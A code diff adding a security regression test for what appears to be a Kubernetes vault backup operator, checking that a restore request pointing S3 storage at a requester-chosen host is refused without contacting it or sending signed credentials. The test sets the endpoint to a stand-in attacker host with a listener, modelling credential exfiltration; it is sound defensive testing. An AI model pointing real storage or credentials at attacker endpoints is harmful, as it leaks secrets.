@@ -293,3 +293,23 @@ def test_a_verify_header_from_a_secret_goes_only_over_https_and_only_from_a_secr
     assert steps.get("ScaleDown") in (None, "Skipped"), steps
     assert ready_replicas(vault.cluster, vault.namespace) == before
     assert not [value for value in secret_values(vault) if value in readable_by_requester(vault, "verify-https")]
+
+
+def test_an_artifact_on_an_s3_server_of_the_requesters_choosing_is_refused_before_anything_is_sent(vault: Vault):
+    """The operator reads manifests, and runner Jobs the artifact, from the storage a request names,
+    with its namespace's credentials: only the locations the operator's configuration gives the
+    namespace are used (the local stack's: its own S3 server on 127.0.0.1), nothing else is contacted."""
+    grant_requester(vault)
+    vault.backup()
+    storage = vault.storage()
+    storage["s3"]["endpoint"] = f"http://{ATTACKER_HOST}:{ATTACKER_PORT}"
+    request = drill_request(vault, "elsewhere", source={"artifact": f"s3://{vault.bucket}/x/vault.dump"})
+    request["spec"]["storage"] = storage
+    with listener(ATTACKER_HOST, ATTACKER_PORT) as received:
+        create_as_requester(vault, request)
+        finished = vault.wait_finished("restorerequests", "elsewhere")
+    failed = next(c for c in finished["status"]["conditions"] if c["type"] == "Failed")
+    assert failed["reason"] == "StorageNotAllowed", vault.describe("restorerequests", "elsewhere")
+    assert f"on http://{ATTACKER_HOST}:{ATTACKER_PORT}" in failed["message"]
+    assert received == []  # not even a request signed with the namespace's S3 credentials
+    assert jobs_of(vault, "elsewhere") == []
